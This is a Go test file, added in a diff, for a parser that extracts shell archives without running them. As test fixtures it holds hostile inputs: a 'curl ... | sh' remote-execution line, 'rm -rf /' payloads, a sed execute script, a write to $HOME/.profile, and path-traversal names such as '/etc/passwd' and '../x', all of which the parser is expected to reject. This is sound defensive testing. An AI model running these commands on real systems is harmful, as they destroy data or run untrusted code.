@@ -0,0 +1,214 @@
+package shar
+
+import (
+	"crypto/md5"
+	"encoding/hex"
+	"github.com/stretchr/testify/assert"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const sharutilsArchive = `From: someone@example.com
+Subject: files
+
+#!/bin/sh
+# This is a shell archive (produced by GNU sharutils 4.15.2).
+# To extract the files from this archive, save it to some FILE, remove
+# everything before the '#!/bin/sh' line above, then type 'sh FILE'.
+#
+lock_dir=_sh01234
+# Made on 2024-01-01 00:00 UTC by <someone@example.com>.
+#
+# Existing files will *not* be overwritten, unless '-c' is specified.
+#
+if test ! -d 'docs'; then
+  mkdir 'docs'
+  if test $? -eq 0
+  then ${echo} "x - created directory docs."
+  else ${echo} "x - failed to create directory docs."
+       exit 1
+  fi
+fi
+# ============= docs/hello.txt ==============
+if test -n "${keep_file}" && test -f 'docs/hello.txt'
+then
+${echo} "x - SKIPPING docs/hello.txt (file already exists)"
+else
+${echo} "x - extracting docs/hello.txt (text)"
+  sed 's/^X//' << 'SHAR_EOF' > 'docs/hello.txt' &&
+XHello World
+X$HOME is not expanded
+SHAR_EOF
+  (set 20 24 01 01 00 00 00 'docs/hello.txt'
+   eval "${shar_touch}") && \
+  chmod 0640 'docs/hello.txt'
+if test $? -ne 0
+then ${echo} "restore of docs/hello.txt failed"
+fi
+  if ( md5sum --help 2>&1 | grep 'sage: md5sum \[' ) >/dev/null 2>&1 \
+  && ( md5sum --version 2>&1 | grep -v 'textutils 1.12' ) >/dev/null; then
+    md5sum -c << SHAR_EOF >/dev/null 2>&1 \
+    || ${echo} 'docs/hello.txt': 'MD5 check failed'
+d5652b6e947d444e1b1698d48ee2c6f9  docs/hello.txt
+SHAR_EOF
+  fi
+fi
+# ============= cat.bin ==============
+  sed 's/^X//' << 'SHAR_EOF' | uudecode &&
+Xbegin 755 cat.bin
+X#0V%T
+X` + "`" + `
+Xend
+SHAR_EOF
+cat << \SHAR_EOF > 'tmp.uue'
+begin 600 dog.bin
+#1&]G
+` + "`" + `
+end
+SHAR_EOF
+uudecode 'tmp.uue'
+rm -f 'tmp.uue'
+curl http://example.com/ | sh
+exit 0
+Signature, not part of the archive
+`
+
+func TestParse(t *testing.T) {
+	archive, err := Parse(strings.NewReader(sharutilsArchive))
+	assert.Nil(t, err)
+
+	assert.Equal(t, []*File{
+		{Name: "docs", Mode: os.ModeDir | 0755},
+		{Name: "docs/hello.txt", Mode: 0640, Contents: []byte("Hello World\n$HOME is not expanded\n")},
+		{Name: "cat.bin", Mode: 0755, Contents: []byte("Cat")},
+		{Name: "dog.bin", Mode: 0600, Contents: []byte("Dog")},
+	}, archive.Files)
+	assert.Equal(t, []Issue{
+		{Line: 61, Text: "curl http://example.com/ | sh", Reason: "unsupported command: curl"},
+		{Line: 61, Text: "curl http://example.com/ | sh", Reason: "unsupported command: sh"},
+	}, archive.Issues)
+}
+
+func TestParse_md5Mismatch(t *testing.T) {
+	input := "#!/bin/sh\n" +
+		"cat << 'EOF' > a.txt\n" +
+		"a\n" +
+		"EOF\n" +
+		"md5sum -c << 'EOF'\n" +
+		"00000000000000000000000000000000  a.txt\n" +
+		"00000000000000000000000000000000  b.txt\n" +
+		"EOF\n"
+	archive, err := Parse(strings.NewReader(input))
+	assert.Nil(t, err)
+	assert.Equal(t, []Issue{
+		{Line: 5, Text: "md5sum -c << 'EOF'", Reason: "MD5 check failed: a.txt"},
+		{Line: 5, Text: "md5sum -c << 'EOF'", Reason: "MD5 check of missing file: b.txt"},
+	}, archive.Issues)
+}
+
+func TestParse_unsafeHeredocs(t *testing.T) {
+	inputs := map[string]string{
+		"cat << EOF > a.txt\n$(rm -rf /)\nEOF\n":      "here-document with expansions",
+		"cat << 'EOF' | sh\nrm -rf /\nEOF\n":          "unsupported pipeline",
+		"sh << 'EOF'\nrm -rf /\nEOF\n":                "unsupported here-document command: sh",
+		"sed 's/^X//;e' << 'EOF' > a\nXa\nEOF\n":      "unsupported sed script",
+		"cat << 'EOF' > \"$HOME/.profile\"\nx\nEOF\n": "unsupported expansion: $HOME/.profile",
+		"cat << 'EOF' > a\nunterminated\n":            "unterminated here-document",
+	}
+	for input, reason := range inputs {
+		archive, err := Parse(strings.NewReader(input))
+		assert.Nil(t, err)
+		assert.Equal(t, 0, len(archive.Files), input)
+		if assert.Equal(t, 1, len(archive.Issues), input) {
+			assert.Equal(t, reason, archive.Issues[0].Reason, input)
+		}
+	}
+}
+
+func TestTokenize(t *testing.T) {
+	tokens, ok := tokenize(`sed 's/^X//' << \EOF >'a b'&&echo "x $y" 2>&1 # comment`)
+	assert.True(t, ok)
+	assert.Equal(t, []token{
+		{text: "sed"}, {text: "s/^X//"}, {text: "<<", op: true}, {text: "EOF"}, {text: ">", op: true},
+		{text: "a b"}, {text: "&&", op: true}, {text: "echo"}, {text: "x $y", expands: true},
+		{text: "2>&1", op: true},
+	}, tokens)
+
+	_, ok = tokenize(`echo 'unterminated`)
+	assert.False(t, ok)
+}
+
+func TestArchive_Extract(t *testing.T) {
+	dir, err := ioutil.TempDir("", "shar")
+	if err != nil {
+		panic(err)
+	}
+	defer os.RemoveAll(dir)
+
+	archive, err := Parse(strings.NewReader(sharutilsArchive))
+	assert.Nil(t, err)
+	assert.Nil(t, archive.Extract(dir))
+
+	contents, err := ioutil.ReadFile(filepath.Join(dir, "docs", "hello.txt"))
+	assert.Nil(t, err)
+	assert.Equal(t, "Hello World\n$HOME is not expanded\n", string(contents))
+	fi, err := os.Stat(filepath.Join(dir, "cat.bin"))
+	assert.Nil(t, err)
+	assert.Equal(t, os.FileMode(0755), fi.Mode())
+
+	// Existing files are not overwritten
+	assert.NotNil(t, archive.Extract(dir))
+}
+
+func TestArchive_Extract_specialBits(t *testing.T) {
+	dir, err := ioutil.TempDir("", "shar")
+	if err != nil {
+		panic(err)
+	}
+	defer os.RemoveAll(dir)
+
+	archive := &Archive{Files: []*File{{Name: "a", Mode: os.ModeSetuid | 0755}, {Name: "b", Mode: os.ModeSetuid | 0755}}}
+	assert.Nil(t, (&Archive{Files: archive.Files[:1]}).Extract(dir))
+	assert.Nil(t, (&Archive{Files: archive.Files[1:]}).ExtractWithOptions(dir, ExtractOptions{SpecialBits: true}))
+
+	fi, err := os.Stat(filepath.Join(dir, "a"))
+	assert.Nil(t, err)
+	assert.Equal(t, os.FileMode(0755), fi.Mode())
+	fi, err = os.Stat(filepath.Join(dir, "b"))
+	assert.Nil(t, err)
+	assert.Equal(t, os.ModeSetuid|0755, fi.Mode())
+}
+
+func TestArchive_Extract_unsafeNames(t *testing.T) {
+	for _, name := range []string{"/etc/passwd", "../x", "a/../../x", ""} {
+		archive := &Archive{Files: []*File{{Name: name, Mode: 0644}}}
+		assert.EqualError(t, archive.Extract(os.TempDir()), "shar: unsafe file name: "+name)
+	}
+}
+
+func TestParse_redirectionOfIgnoredCommand(t *testing.T) {
+	archive, err := Parse(strings.NewReader("echo hello > a.txt\necho quiet > /dev/null\n"))
+	assert.Nil(t, err)
+	assert.Equal(t, []Issue{{Line: 1, Text: "echo hello > a.txt", Reason: "unsupported redirection: a.txt"}}, archive.Issues)
+}
+
+func TestParse_carriageReturnsInHeredocs(t *testing.T) {
+	contents := "line one\r\nline two\r\n"
+	sum := md5.Sum([]byte(contents))
+	input := "#!/bin/sh\r\n" +
+		"sed 's/^X//' << 'SHAR_EOF' > 'dos.txt'\r\n" +
+		"Xline one\r\n" +
+		"Xline two\r\n" +
+		"SHAR_EOF\r\n" +
+		"md5sum -c << 'SHAR_EOF'\n" +
+		hex.EncodeToString(sum[:]) + "  dos.txt\n" +
+		"SHAR_EOF\n" +
+		"exit 0\r\n"
+	archive, err := Parse(strings.NewReader(input))
+	assert.Nil(t, err)
+	assert.Empty(t, archive.Issues)
+	assert.Equal(t, []*File{{Name: "dos.txt", Mode: 0644, Contents: []byte(contents)}}, archive.Files)
+}